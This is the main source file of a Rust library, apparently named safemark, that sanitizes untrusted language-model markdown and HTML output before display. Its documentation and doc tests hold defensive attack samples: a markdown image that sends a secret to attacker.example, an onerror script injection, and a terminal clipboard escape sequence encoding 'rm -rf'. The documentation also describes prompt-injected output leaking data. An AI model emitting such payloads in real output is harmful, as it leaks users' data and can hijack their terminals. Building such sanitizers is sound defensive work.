//! # safemark
//!
//! Render untrusted LLM output safely. Treat what a model writes like input from an anonymous
//! user: prompt injection cannot be prevented, so any answer may have been written by an
//! attacker. A markdown image `![](https://attacker.example/p.png?d=SECRET)` leaks data the
//! moment it is displayed; a link leaks it with one click; raw HTML can run script.
//!
//! safemark turns markdown (CommonMark + GFM) or HTML into HTML that cannot run script and
//! cannot make a request the [`Policy`] does not allow, and reports everything it removed.
//!
//! ```
//! let out = safemark::render_markdown(
//!     "Done! ![status](https://attacker.example/p.png?d=SECRET) <img src=x onerror=alert(1)>",
//! ).unwrap();
//! assert!(!out.html.contains("<img"));
//! #[cfg(feature = "html")] // without it, raw HTML is shown as text (`&lt;img …`)
//! assert!(!out.html.contains("onerror"));
//! assert!(out.findings.iter().any(|f| f.kind == safemark::FindingKind::BlockedImage));
//! ```
//!
//! With a policy, built once and reused (`Sanitizer` is `Send + Sync`):
//!
//! ```
//! use safemark::{Policy, Sanitizer};
//! let policy = Policy::from_json(r#"{"links": {"allow": ["https://docs.example.com/"]}}"#)?;
//! let sanitizer = Sanitizer::new(policy)?;
//! let out = sanitizer.render_markdown("[docs](https://docs.example.com/start) [x](https://evil.example/)")?;
//! assert!(out.html.contains(r#"href="https://docs.example.com/start""#));
//! assert!(!out.html.contains("href=\"https://evil.example"));
//! # Ok::<(), safemark::Error>(())
//! ```
//!
//! ## Pipeline
//!
//! One module per stage: [`policy`] (what is allowed), `urls` (judges one destination),
//! `judge` (pulldown-cmark events in, judged events out: the policy's meaning for markdown,
//! decided once), the writers that consume judged events (`writer` for HTML, `terminal`),
//! `group` and `html` (raw HTML, sanitized by ammonia, with the allowlist in
//! [`html_allowlist`]), `stream`, `text` (invisible characters), [`report`] (findings),
//! `limits`; and beside the pipeline, `audit` (with the `html` feature): an independent oracle that judges any HTML
//! against a policy. The README's Architecture section maps every module.
//!
//! ## Features
//!
//! - `html` (default): the raw-HTML stage (ammonia, html5ever). Without it the crate has no
//!   HTML parser or sanitizer: raw HTML in markdown is always shown as text (the policy's
//!   `raw_html` defaults to `"escape"`, and `"sanitize"` is refused naming the feature),
//!   [`Sanitizer::sanitize_html`] shows its input as text, and `audit` is not built.
//!
//! ## Foot-guns
//!
//! - The output is safe to insert with `innerHTML` as it is. Do not post-process it with
//!   string operations, and do not insert it inside `<script>`, `<style>`, an attribute or a
//!   `<textarea>`.
//! - `"*"` in an allow list trusts every http(s) destination: images then leak again.
//! - The image proxy hides the reader's address and cookies, not the URL: an allowed host still
//!   receives whatever the URL carries.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod allowlist;
#[cfg(feature = "html")]
mod audit;
mod autolink;
mod canonical;
mod deceptive;
mod display;
mod error;
mod group;
mod heal;
mod host;
#[cfg(feature = "html")]
mod html;
#[cfg(not(feature = "html"))]
#[path = "html/text_only.rs"]
mod html;
mod judge;
mod judged;
mod limits;
mod markdown;
pub mod policy;
pub mod report;
mod stream;
mod tail;
mod terminal;
mod text;
mod url_parse;
mod urls;
mod verdict;
mod writer;

use std::sync::{Arc, LazyLock};

#[cfg(feature = "html")]
pub use audit::{audit, Violation, ViolationKind};
pub use error::Error;
pub use policy::{
    AbsoluteUrl, IdPrefix, ImagePolicy, Limits, LinkPolicy, Policy, PolicyBuilder, RawHtml,
    UntrustedDisplay, UrlPrefix, MAX_POLICY_URL_BYTES,
};
pub use report::{ByteRange, Finding, FindingKind, Rendered};
pub use stream::{MarkdownStream, StreamUpdate};
pub use tail::TailEdit;
pub use terminal::{TerminalOptions, TerminalText};
pub use url_parse::{set_platform_url_parser, PlatformUrlParser};
pub use verdict::UrlVerdict;

/// The HTML allowlist and the markup safemark writes, for readers and auditors.
pub mod html_allowlist {
    pub use crate::allowlist::{
        CLASSES, GENERIC_ATTRIBUTES, REMOVED_WITH_CONTENT, TAGS, TAG_ATTRIBUTES,
    };
    pub use crate::display::{
        BLOCKED_IMAGE_CLASS, CONFIRM_HREF_ATTRIBUTE, LINK_HOST_CLASS, LINK_REFERRER_POLICY,
        LINK_REL, MATH_CLASS, MATH_DISPLAY_CLASS, MATH_INLINE_CLASS, UNTRUSTED_LINK_CLASS,
    };
}

/// A compiled, reusable sanitizer: build it once per policy, use it from any thread.
#[derive(Clone)]
pub struct Sanitizer {
    policy: Arc<Policy>,
    /// The HTML stage for `sanitize_html`.
    html: Arc<html::HtmlStage>,
    /// The HTML stage for raw HTML in markdown (nested less deep: see
    /// [`html::HtmlStage::in_markdown`]).
    markdown_html: Arc<html::HtmlStage>,
}

impl Sanitizer {
    /// Compiles `policy`. Fails only if the policy is invalid (see [`Policy::validate`]).
    pub fn new(policy: Policy) -> Result<Sanitizer, Error> {
        policy.validate()?;
        Ok(Sanitizer::compiled(Arc::new(policy)))
    }

    /// The stages for `policy`, already validated.
    fn compiled(policy: Arc<Policy>) -> Sanitizer {
        let html = html::HtmlStage::new(Arc::clone(&policy));
        Sanitizer {
            markdown_html: Arc::new(html.in_markdown()),
            html: Arc::new(html),
            policy,
        }
    }

    /// Parses a JSON policy and compiles it.
    pub fn from_json(json: &str) -> Result<Sanitizer, Error> {
        Sanitizer::new(Policy::from_json(json)?)
    }

    /// The policy in force.
    pub fn policy(&self) -> &Policy {
        &self.policy
    }

    /// Renders untrusted markdown to safe HTML.
    pub fn render_markdown(&self, markdown: &str) -> Result<Rendered, Error> {
        limits::check_input(markdown, &self.policy)?;
        let (html, findings) = markdown::render(markdown, &self.markdown_html);
        Ok(Rendered { html, findings })
    }

    /// Renders untrusted markdown as text for a terminal: no control character or escape
    /// sequence of the input reaches the terminal (each is shown as a visible symbol such as
    /// `␛`, with a finding), links show where they point, images show their alt text. See
    /// [`TerminalOptions`] for styling.
    ///
    /// ```
    /// use safemark::{Sanitizer, Policy, TerminalOptions};
    /// let s = Sanitizer::new(Policy::default())?;
    /// let out = s.render_terminal("Hi \x1b]52;c;cm0gLXJm\x07 [docs](https://evil.example/x)", TerminalOptions::plain())?;
    /// assert_eq!(out.text, "Hi ␛]52;c;cm0gLXJm␇ docs (evil.example…)\n");
    /// # Ok::<(), safemark::Error>(())
    /// ```
    pub fn render_terminal(
        &self,
        markdown: &str,
        options: TerminalOptions,
    ) -> Result<TerminalText, Error> {
        limits::check_input(markdown, &self.policy)?;
        Ok(terminal::render(markdown, &self.policy, options))
    }

    /// A stream renderer under this sanitizer's policy, for markdown that arrives a few
    /// characters at a time (see [`MarkdownStream`]).
    pub fn stream(&self) -> MarkdownStream {
        MarkdownStream::new(Arc::clone(&self.markdown_html))
    }

    /// Judges one link destination exactly as a render under this policy does, for an app's
    /// own link dialog or preview: whether it is clickable, what `href` is written, its real
    /// host (punycode), why it is refused, and, given the link's visible `text`, whether the
    /// text names another host (see [`UrlVerdict`]). `url` is taken as the app has it: entity
    /// references are not decoded again.
    pub fn judge_link(&self, url: &str, text: Option<&str>) -> UrlVerdict {
        verdict::judge(url, text, urls::Purpose::Link, &self.policy)
    }

    /// Judges one image source exactly as a render under this policy does: whether it loads,
    /// and what `src` is written (through the image proxy, if the policy has one).
    pub fn judge_image(&self, url: &str) -> UrlVerdict {
        verdict::judge(url, None, urls::Purpose::Image, &self.policy)
    }

    /// Sanitizes untrusted HTML. Without the `html` feature, shows it as text.
    pub fn sanitize_html(&self, html: &str) -> Result<Rendered, Error> {
        limits::check_input(html, &self.policy)?;
        let mut findings = Vec::new();
        let html = self.html.sanitize(html, &mut findings);
        Ok(Rendered { html, findings })
    }
}

static DEFAULT: LazyLock<Sanitizer> =
    LazyLock::new(|| Sanitizer::compiled(Arc::new(Policy::default())));

/// Renders untrusted markdown under the default policy.
pub fn render_markdown(markdown: &str) -> Result<Rendered, Error> {
    DEFAULT.render_markdown(markdown)
}

/// Sanitizes untrusted HTML under the default policy. Without the `html` feature, shows it
/// as text.
pub fn sanitize_html(html: &str) -> Result<Rendered, Error> {
    DEFAULT.sanitize_html(html)
}

/// The README's examples, compiled and run as doc tests.
#[cfg(doctest)]
#[doc = include_str!("../README.md")]
struct ReadmeDoctests;

#[cfg(test)]
mod tests {
    use super::*;

    fn assert_send_sync<T: Send + Sync>() {}

    #[test]
    fn sanitizer_is_send_sync() {
        assert_send_sync::<Sanitizer>();
    }
}
